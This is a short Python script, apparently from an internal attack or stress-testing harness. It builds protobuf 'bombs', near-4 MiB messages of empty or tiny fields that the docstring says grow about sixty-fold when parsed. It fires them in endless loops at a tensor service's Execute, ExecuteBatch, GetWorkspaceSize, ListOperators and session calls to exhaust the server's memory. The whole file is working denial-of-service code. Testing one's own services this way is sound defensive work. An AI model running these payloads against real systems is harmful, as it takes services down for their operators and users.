"""Headers of nearly 4 MiB that protobuf makes 60 times as large: empty tensors, empty attributes, empty strings and
numbers of a byte; several at a time, in every method that parses, and in sessions.
"""

import http2
import wire
from attack import Attack, Target, run

MOST = (4 << 20) - 200
BOMBS = [
    field * (MOST // len(field))
    for field in (
        wire.field(2, b""),  # inputs
        wire.field(3, b""),  # attributes
        wire.field(2, wire.field(10, b"")),  # inputs with views
        wire.field(2, wire.field(3, b"\1\1\1\1\1\1\1\1")),  # shapes
    )
]
SESSION_BOMBS = [
    wire.field(wire.SET_TENSORS, (wire.field(2, wire.field(2, b"")) * (MOST // 4))),
    wire.field(29, b"") * (MOST // 3),
    wire.field(29, wire.field(100, b"") * (MOST // 3)),
]


def bombs(target: Target) -> None:
    connection = target.connect(target.index)
    while True:
        for bomb in BOMBS:
            calls = [
                connection.start(method, wire.field(1, bomb))
                for method in (
                    "Execute",
                    "ExecuteBatch",
                    "GetWorkspaceSize",
                    "Execute",
                    "GetWorkspaceSize",
                    "ListOperators",
                )
            ]
            connection.poll_until(lambda: all(call.ended for call in calls), 5.0)
            for call in calls:
                connection.forget(call)


def in_sessions(target: Target) -> None:
    connection = target.connect(target.index)
    while True:
        for bomb in SESSION_BOMBS:
            call = connection.begin(http2.SESSION)
            connection.message(call, (wire.field(1, 1) if bomb[:2] != wire.field(29, b"")[:2] else b"") + bomb)
            connection.await_end(call, 1.0)
            connection.forget(call)


if __name__ == "__main__":
    # Four threads parse at one time, 240 MiB each at worst.
    run(Attack([bombs, bombs, in_sessions], rss_mib=1200))
